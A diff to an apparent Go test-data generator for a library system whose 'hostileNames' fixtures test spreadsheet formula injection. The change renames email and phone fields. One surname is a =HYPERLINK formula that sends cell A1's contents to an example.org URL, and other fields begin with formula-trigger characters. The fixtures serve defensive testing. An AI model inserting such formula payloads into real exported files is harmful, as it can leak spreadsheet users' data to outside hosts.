@@ -95,7 +95,7 @@ var hostileNames = []Person{
 		Card: CardHyperlink, What: "spreadsheet formula =HYPERLINK", branch: "KEN-ALD", category: adult,
 		surname: `=HYPERLINK("http://example.org/?q="&A1,"Click")`, forenames: "+Anna", born: "1977-04-25",
 		adjust: func(_ *generator, p *person) {
-			p.email, p.phone = "-1+1@example.org", "=1+44"
+			p.emails, p.phones = "-1+1@example.org; +2@example.org", "=1+44; @44"
 		},
 	},
 	{
@@ -116,7 +116,7 @@ func (g *generator) awkward(i int) person {
 			registered: g.today - 6*year, expires: g.today + year/2, deleted: never, also: nowhere,
 		},
 		surname: entry.surname, forenames: entry.forenames, card: entry.Card, cardStatus: "active", lastFee: never,
-		email: "reader" + strconv.Itoa(i+1) + "@example.org",
+		emails: "reader" + strconv.Itoa(i+1) + "@example.org",
 	}
 	p.home = branches[p.branch].authority
 	p.language = "en"
